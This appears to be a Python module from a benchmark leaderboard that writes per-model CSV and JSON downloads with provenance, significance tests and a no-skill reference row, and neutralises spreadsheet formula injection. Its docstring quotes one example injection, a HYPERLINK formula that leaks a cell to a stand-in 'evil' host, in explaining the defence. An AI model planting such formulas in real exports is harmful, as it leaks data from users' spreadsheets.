"""A view's downloadable records (CSV and JSON): one record per model, exact fractions,
tiers and tests, and where every figure comes from; and the no-skill reference row the
page shows, in its place.

A record is a model line (:mod:`.lines`): every figure from the one row named in
``system_id`` and ``source``, picked from the model's rows by the stated rule;
``other_sources`` names the model's other rows in the view, and JSON's ``others`` gives
their figures, cell by cell. A view whose columns have a no-skill value gets a record of
``"provenance": "reference"`` holding them (:mod:`.references`). For the
tiered column every tested figure carries what the README promises: the raw and the
Holm-adjusted p-value of its test against the best verified row, the mean difference from
it and that difference's 95% bootstrap interval.

CSV is opened by spreadsheets, which run a cell starting with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula: a model named
``=HYPERLINK("http://evil/?"&A1)`` would become a live link. Text cells starting so get a
leading apostrophe (OWASP's advice); numeric cells are written as numbers and never
touched, so a negative p-MRR stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Mapping, Sequence

from .references import REFERENCE_KEY, reference_at, reference_name
from .rows import Row
from .tables import ViewTable
from .verdicts import TIER_BELOW, TIER_LEADER, TIER_REPORTED, TIER_TIED

STATISTIC_NOTE = (
    "One record per model, every figure from one row (system_id, source): a verified "
    "submission first (the best on the tested column), else a reported row giving the "
    "sort column, by source: the benchmark's own (its paper; on PI-Indic's full set the "
    "authors' result files, then the paper), another paper, the PI-Indic authors' result "
    "files, then MTEB's results (newest mteb first). other_sources names the model's other "
    "rows in this table and JSON's 'others' gives their figures; they are never mixed in. "
    "The record of provenance 'reference' is the no-skill reference row. "
    "Each column's convention says what its number is (one task's mean over its queries, or "
    "the mean of the tasks' figures as the benchmark's paper averages them). Tests against "
    "the tiered column's best verified row (the leader among verified submissions; "
    "reported rows are never tested): p_value raw, p_adjusted Holm within the view; "
    "diff_vs_best_verified = mean(system - best) over the test's units, with its 95% "
    "bootstrap interval [ci_low, ci_high]. 'reference' gives each column's no-skill value.")
TEST_FIELDS = ("tier", "p_value", "p_adjusted", "diff_vs_best_verified", "ci_low", "ci_high")
TIER_NAMES = {TIER_LEADER: "best verified", TIER_TIED: "tied with best verified",
              TIER_BELOW: "below best verified", TIER_REPORTED: "reported: not tested"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def view_records(table: ViewTable, source_of: Callable[[Row], str]
                 ) -> tuple[list[str], list[dict[str, object]]]:
    """Header and records of a view's download, one per model line; ``source_of`` says
    where a row comes from."""
    cols = table.view.columns
    header = ["rank", "model_id", "model", "provenance", "model_type", "parameters",
              "instruction_trained", "system_id", "source"] + [c.id for c in cols]
    header.append("other_sources")
    tiered = sorted(table.tiers)
    for i in tiered:
        header += [f"{cols[i].id} {f}" for f in TEST_FIELDS]
    ranks = table.line_ranks()
    records = []
    for line in table.lines:
        rec_ = line.record
        main = line.source
        rec: dict[str, object] = {
            "rank": ranks[line.key], "model_id": line.key, "model": line.name,
            "provenance": "verified" if line.verified else "reported",
            "model_type": rec_.type, "parameters": rec_.parameters,
            "instruction_trained": rec_.instruction_trained,
            "system_id": main.system.system_id, "source": source_of(main),
            "other_sources": "; ".join(r.system.system_id for r in line.others) or None,
        }
        others: dict[str, list[dict[str, object]]] = {}
        for i, col in enumerate(cols):
            cell = line.cells[i]
            rec[col.id] = cell.value
            if cell.others:
                others[col.id] = [{"system_id": r.system.system_id, "value": v,
                                   "source": source_of(r)} for r, v in cell.others]
        for i in tiered:
            info = line.cells[i].tier
            fields = (TIER_NAMES.get(info.tier, info.tier), info.p_value, info.p_adjusted,
                      info.effect, info.ci_low, info.ci_high) if info else (None,) * 6
            for name, value in zip(TEST_FIELDS, fields):
                rec[f"{cols[i].id} {name}"] = value
        if others:
            rec["others"] = others  # JSON only: not in the CSV header
        records.append(rec)
    if any(v is not None for v in table.references):
        records.insert(reference_at(table.view, table.lines, table.references),
                       reference_record(table))
    return header, records


def reference_record(table: ViewTable) -> dict[str, object]:
    """The no-skill reference row as a record: each column's reference value, nothing
    tested; its source says what it is."""
    view = table.view
    rec: dict[str, object] = {
        "rank": None, "model_id": REFERENCE_KEY, "model": reference_name(view),
        "provenance": "reference", "model_type": None, "parameters": None,
        "instruction_trained": None, "system_id": None,
        "source": "no-skill reference: what a system without skill scores in each column",
        "other_sources": None}
    for col, value in zip(view.columns, table.references):
        rec[col.id] = value
    return rec


def view_document(table: ViewTable, records: list[dict[str, object]]) -> dict:
    """A view's JSON download: what each column is (its tasks and declared convention,
    its no-skill reference), then the records."""
    view = table.view
    return {
        "view": {"id": view.id, "title": view.title, "note": view.note,
                 "columns": [{"id": c.id, "label": c.label, "metric": c.metric,
                              "tasks": list(c.tasks), "group": c.group,
                              "higher_is_better": c.higher_is_better, "average": c.average,
                              "convention": c.convention, "means": c.convention_text,
                              "reference": ref}
                             for c, ref in zip(view.columns, table.references
                                               or [None] * len(view.columns))]},
        "scale": "fractions (the site shows x100)",
        "statistic": STATISTIC_NOTE,
        "rows": records,
    }


def csv_cell(value: object) -> str:
    """One CSV cell: numbers exact (shortest round-trip), text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, int):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Sequence[str], records: Sequence[Mapping[str, object]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([csv_cell(h) for h in header])
    for rec in records:
        writer.writerow([csv_cell(rec.get(h)) for h in header])
    return buf.getvalue()
